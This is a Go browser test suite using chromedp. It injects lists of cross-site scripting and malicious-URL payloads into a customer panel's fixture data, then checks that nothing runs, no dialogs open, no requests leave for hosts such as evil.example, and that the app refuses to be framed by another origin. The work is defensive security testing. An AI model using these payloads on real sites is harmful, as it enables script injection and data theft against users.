package main

import (
	"context"
	"encoding/json"
	"maps"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
)

// xssVectors go into every string of the payload: each tries to run script
// (setting window.pwned, document.title or the top window's name, or
// opening a dialog) or to make the browser fetch from another host.
var xssVectors = []string{
	`<script>window.pwned=1;window.top.name="pwned";alert(1)</script>`,
	`<img src=x onerror="window.pwned=1;alert(1)">`,
	`"><svg onload="alert(1)">`,
	`'><iframe src="javascript:alert(1)"></iframe>`,
	`<a href="javascript:alert(1)" id="x">click</a>`,
	`<div hx-get="https://evil.example/htmx" hx-trigger="load">htmx</div>`,
	`<img src="https://evil.example/pixel.png">`,
	`<link rel="stylesheet" href="https://evil.example/x.css">`,
	`<style>@import "https://evil.example/x.css";</style>`,
	`</template></textarea></script><script>document.title="pwned"</script>`,
	`{{constructor.constructor('alert(1)')()}}`,
	`${alert(1)}`,
	"\u202e<body onload=alert(1)>",
	`javascript:alert(1)`,
}

// urlVectors go into the fields the panel may turn into links or images.
var urlVectors = []string{
	`javascript:alert(1)`,
	` JaVaScRiPt:window.pwned=1`,
	`data:text/html,<script>alert(1)</script>`,
	`data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`,
	`vbscript:msgbox(1)`,
	`//evil.example/avatar.png`,
	`java&#x09;script:alert(1)`,
}

// hostilePayload is Layla's appContext with every string replaced by a
// vector, URL-like fields by URL vectors, and a hostile key added to every
// attribute map. Ids stay, so the panel still shows her orders around the
// hostile text.
func hostilePayload(t *testing.T) string {
	t.Helper()
	var root map[string]any
	if err := json.Unmarshal([]byte(readFixture(t, "layla.json")), &root); err != nil {
		t.Fatal(err)
	}
	n := 0
	next := func(list []string) string { n++; return list[n%len(list)] }
	var walk func(v any, key string, urlish bool) any
	walk = func(v any, key string, urlish bool) any {
		switch v := v.(type) {
		case string:
			if urlish || key == "thumbnail" || key == "avatar_url" {
				return next(urlVectors)
			}
			return next(xssVectors)
		case []any:
			for i := range v {
				v[i] = walk(v[i], key, urlish)
			}
		case map[string]any:
			for _, k := range slices.Sorted(maps.Keys(v)) { // the same payload every run
				v[k] = walk(v[k], k, urlish || key == "social_profiles")
			}
			if key == "custom_attributes" || key == "additional_attributes" {
				v[next(xssVectors)] = next(xssVectors)
			}
		}
		return v
	}
	root["data"] = walk(root["data"], "", false)
	b, err := json.Marshal(root)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// browserWatch records, from the moment it is set up, every JavaScript
// dialog and every request the given targets make.
type browserWatch struct {
	mu       sync.Mutex
	dialogs  []string
	requests []string
}

func (w *browserWatch) listen(t *testing.T, ctx context.Context) {
	t.Helper()
	err := chromedp.Listen(ctx, func(ev any) {
		switch ev := ev.(type) {
		case *page.EventJavascriptDialogOpening:
			w.mu.Lock()
			w.dialogs = append(w.dialogs, ev.Message)
			w.mu.Unlock()
			// Close it, or the page stays blocked; not from inside the listener.
			go chromedp.Call(ctx, page.HandleJavaScriptDialog, page.HandleJavaScriptDialogParams{})
		case *network.EventRequestWillBeSent:
			w.mu.Lock()
			w.requests = append(w.requests, ev.Request.URL)
			w.mu.Unlock()
		}
	})
	if err != nil {
		t.Fatalf("listen: %v", err)
	}
}

// foreign returns the requests to anything but the given hosts.
func (w *browserWatch) foreign(hosts ...string) []string {
	w.mu.Lock()
	defer w.mu.Unlock()
	var out []string
	for _, r := range w.requests {
		u, err := url.Parse(r)
		if err != nil || (u.Scheme != "http" && u.Scheme != "https") || !slices.Contains(hosts, u.Host) {
			out = append(out, r)
		}
	}
	return out
}

func hostOf(t *testing.T, raw string) string {
	t.Helper()
	u, err := url.Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	return u.Host
}

// Every string a customer or agent could have typed, posted by the host
// page in production mode: the panel shows it as text, and nothing runs or
// leaves for another host.
func TestBrowserHostileContactTextRunsNothing(t *testing.T) {
	browser := newBrowser(t)
	host, page := newHost(t)
	base := startApp(t, "-key", testKey, "-demo=on", "-allowed-origins", host.URL)
	appBase := strings.Replace(base, "127.0.0.1", "localhost", 1)
	*page = hostPage(t, appBase+"/?lang=en&key="+testKey, hostilePayload(t), hostMode{}, "")

	var watch browserWatch
	watch.listen(t, browser)
	do(t, browser, chromedp.Navigate(host.URL))
	app := frameContext(t, browser, appBase+"/?lang=en")
	watch.listen(t, app)
	waitJS(t, app, `window.dashappBridge`, 10*time.Second)
	execJS(t, browser, `frame.contentWindow.postMessage(payload, "*")`)
	waitJS(t, app, `document.querySelector("#customer-panel[data-matched-by=contact_id]")`, 10*time.Second)
	time.Sleep(500 * time.Millisecond) // let any onerror, onload or htmx trigger fire

	var sent struct {
		Data struct {
			Contact struct{ Name string }
		}
	}
	if err := json.Unmarshal([]byte(hostilePayload(t)), &sent); err != nil || !strings.Contains(sent.Data.Contact.Name, "<") {
		t.Fatalf("the contact's name is not a vector: %q, %v", sent.Data.Contact.Name, err)
	}
	if got := evalJS[string](t, app, `document.querySelector("#contact-name").textContent.trim()`); got != sent.Data.Contact.Name {
		t.Errorf("the contact's name shows as %q, want the text %q", got, sent.Data.Contact.Name)
	}
	if text := evalJS[string](t, app, `document.querySelector("#panel").textContent`); !strings.Contains(text, "C-1001") {
		t.Errorf("the panel does not show Layla's customer around the hostile text:\n%.2000s", text)
	}
	if got := evalJS[string](t, app, `location.search`); strings.Contains(got, "key=") {
		t.Errorf("the access key stays in the frame's address: %q", got)
	}
	for _, check := range []struct{ ctx, expr, where string }{
		{"app", `typeof window.pwned === "undefined" && document.title === "dashapp"`, "the app"},
		{"host", `typeof window.pwned === "undefined" && window.name === "" && document.title === "host"`, "the host page"},
		{"app", `![...document.querySelectorAll("#panel *")].some(e => [...e.attributes].some(a =>
			/^on/i.test(a.name) || /^hx-/i.test(a.name) && !(e.closest("#orders-more, #payments-more") || e.matches("#payments-section, form[role=search], button.open-customer, .mention > button")) ||
			/^hx-(get|post)$/i.test(a.name) && !a.value.startsWith("/") ||
			/^(href|src|action|formaction|srcdoc)$/i.test(a.name) && !/^(https?:\/\/|\/|#|$)/i.test(a.value.trim())))`, "the panel's attributes"},
		{"app", `document.querySelectorAll("#panel script, #panel iframe, #panel style, #panel link, #panel svg [onload]").length === 0`, "the panel's elements"},
	} {
		ctx := app
		if check.ctx == "host" {
			ctx = browser
		}
		if !evalJS[bool](t, ctx, check.expr) {
			t.Errorf("hostile text changed %s (%s)", check.where, check.expr)
		}
	}
	watch.mu.Lock()
	if len(watch.dialogs) > 0 {
		t.Errorf("hostile text opened dialogs: %q", watch.dialogs)
	}
	if len(watch.requests) == 0 {
		t.Error("no request was seen at all: the network watch is not working")
	}
	watch.mu.Unlock()
	if out := watch.foreign(hostOf(t, host.URL), hostOf(t, appBase)); len(out) > 0 {
		t.Errorf("requests left for other hosts: %q", out)
	}
}

// Only the configured dashboard may frame the app: framed by another
// origin, the browser blocks the document (frame-ancestors) before any of
// the app's scripts or requests run. The same browser then opens the allowed
// host, which shows the panel: the checks can tell the two apart.
func TestBrowserOnlyAllowedOriginsCanFrameTheApp(t *testing.T) {
	browser := newBrowser(t)
	host, page := newHost(t)
	base, log := startAppWithLog(t, "-key", testKey, "-demo=on", "-allowed-origins", host.URL)
	appBase := strings.Replace(base, "127.0.0.1", "localhost", 1)

	rogue := rogueServer(t, `<!doctype html><iframe src="`+appBase+`/?theme=dark&key=`+testKey+`"></iframe>`)
	do(t, browser, chromedp.Navigate(rogue))
	blocked := frameContext(t, browser, appBase+"/?theme=dark")
	waitJS(t, blocked, `location.href.startsWith("chrome-error://")`, 10*time.Second)
	if evalJS[bool](t, blocked, `document.getElementById("panel") !== null`) {
		t.Error("a page on an origin that is not allowed framed the app")
	}

	*page = hostPage(t, appBase+"/?lang=en&key="+testKey, compactJSON(t, readFixture(t, "layla.json")), hostMode{SendOnLoad: true, Answer: true}, "")
	do(t, browser, chromedp.Navigate(host.URL))
	app := frameContext(t, browser, appBase+"/?lang=en")
	waitJS(t, app, `document.querySelector("#customer-panel[data-matched-by=contact_id]")`, 10*time.Second)

	// Each page load fetched / once; only the allowed one fetched its assets
	// and posted the context (the fresh browser had nothing cached).
	out := log()
	assets := evalJS[int](t, app, `document.querySelectorAll("script[src], link[rel=stylesheet]").length`)
	if n := strings.Count(out, `"path":"/static/`); n != assets {
		t.Errorf("%d asset requests, want the page's %d once, for the allowed host only:\n%s", n, assets, out)
	}
	if n := strings.Count(out, `"path":"/context","status":200`); n < 1 {
		t.Errorf("the allowed host's frame posted no context:\n%s", out)
	}
}
